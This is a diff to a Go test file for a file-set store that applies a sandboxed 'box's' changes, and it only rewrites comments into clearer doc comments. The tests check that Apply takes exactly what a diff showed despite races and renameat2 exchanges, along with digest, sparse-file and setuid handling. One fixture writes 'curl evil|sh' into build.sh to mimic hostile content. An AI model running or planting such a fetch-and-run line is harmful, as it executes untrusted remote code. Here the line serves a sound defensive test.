@@ -13,7 +13,7 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// alive is a set that a box works in.
+// alive returns a set that a box works in, its base, and the directory of its top.
 func alive(t testing.TB) (s *Store, base, up string) {
 	t.Helper()
 	s, base = store(t)
@@ -45,8 +45,8 @@ func digestNow(t testing.TB, s *Store, paths ...string) string {
 	return d.Digest
 }
 
-// Just what a diff showed is applied, whatever a box that lives makes of the set
-// in between.
+// TestApplyTakesWhatWasShown checks that Apply with a digest applies exactly what the diff
+// showed, or nothing, whatever a running box changes in the set in between.
 func TestApplyTakesWhatWasShown(t *testing.T) {
 	for name, change := range map[string]func(base, up string){
 		"content":   func(_, up string) { put(t, up+"/build.sh", "curl evil|sh\n") },
@@ -85,7 +85,7 @@ func TestApplyTakesWhatWasShown(t *testing.T) {
 	}
 }
 
-// A digest is one of the paths that were shown.
+// TestDigestOfSomePaths checks that a digest is valid only for the paths that were shown.
 func TestDigestOfSomePaths(t *testing.T) {
 	s, base, up := alive(t)
 	some := digestNow(t, s, "build.sh")
@@ -102,7 +102,8 @@ func TestDigestOfSomePaths(t *testing.T) {
 	}
 }
 
-// A box that exchanges files all the time gets in what was shown, or nothing.
+// TestApplyReadsOnce checks that if a box exchanges files all the time, Apply takes what
+// was shown or nothing.
 func TestApplyReadsOnce(t *testing.T) {
 	s, base, up := alive(t)
 	same := []unix.Timespec{{Sec: 1}, {Sec: 1}}
@@ -138,7 +139,8 @@ func TestApplyReadsOnce(t *testing.T) {
 		if tree(t, base)[name] != "" {
 			continue
 		}
-		// The exchange came in between each time. Without it the same call applies.
+		// Each Apply was refused, because the exchange came in between. Without the
+		// exchange, the same call must succeed.
 		if strings.Contains(tree(t, up)[name], "evil") {
 			must(t, unix.Renameat2(unix.AT_FDCWD, up+"/evil", unix.AT_FDCWD, up+"/"+name, unix.RENAME_EXCHANGE))
 		}
@@ -150,7 +152,8 @@ func TestApplyReadsOnce(t *testing.T) {
 	t.Logf("applied %d of 15 during the exchange", passed)
 }
 
-// The copy is compared, and not what is there a moment before.
+// TestACopyThatIsAnotherIsRefused checks that the digest is compared with the copy itself,
+// and not with the file before it is copied.
 func TestACopyThatIsAnotherIsRefused(t *testing.T) {
 	s, base, up := alive(t)
 	o, err := s.look("set", unix.LOCK_EX)
@@ -177,7 +180,7 @@ func TestACopyThatIsAnotherIsRefused(t *testing.T) {
 	}
 }
 
-// The content of a file is the same whatever holes it has.
+// TestDigestOfHoles checks that the digest of a file does not depend on its holes.
 func TestDigestOfHoles(t *testing.T) {
 	s, _, up := alive(t)
 	make := func(write func(f *os.File)) string {
@@ -196,18 +199,18 @@ func TestDigestOfHoles(t *testing.T) {
 		must(t, err)
 	})
 	moved := make(func(f *os.File) { _, err := f.WriteAt(data, 300_002); must(t, err) })
-	// The same bytes in the same place of another block.
+	// The same bytes, at the same offset of another block.
 	further := make(func(f *os.File) { _, err := f.WriteAt(data, 300_001+64<<10); must(t, err) })
 	if sparse != full || sparse == moved || sparse == further {
 		t.Errorf("with holes %s, without %s, with other content %s, further on %s", sparse, full, moved, further)
 	}
 }
 
-// zeros are so many zeros.
+// zeros returns n zero bytes.
 func zeros(n int) []byte { return []byte(strings.Repeat("\x00", n)) }
 
-// One directory that is deeper or larger than what is looked at does not keep
-// the rest from being looked at and applied.
+// TestDeepDirectory checks that a directory which is deeper or larger than the bounds does
+// not prevent the rest of the set from being compared and applied.
 func TestDeepDirectory(t *testing.T) {
 	s, base := store(t)
 	must(t, s.Create("set", base, Protect{}))
@@ -239,7 +242,7 @@ func TestDeepDirectory(t *testing.T) {
 	}
 }
 
-// Permissions that are left out are reported.
+// TestSetIDIsDroppedAndSaid checks that permission bits which are left out are reported.
 func TestSetIDIsDroppedAndSaid(t *testing.T) {
 	s, base := store(t)
 	must(t, s.Create("set", base, Protect{}))
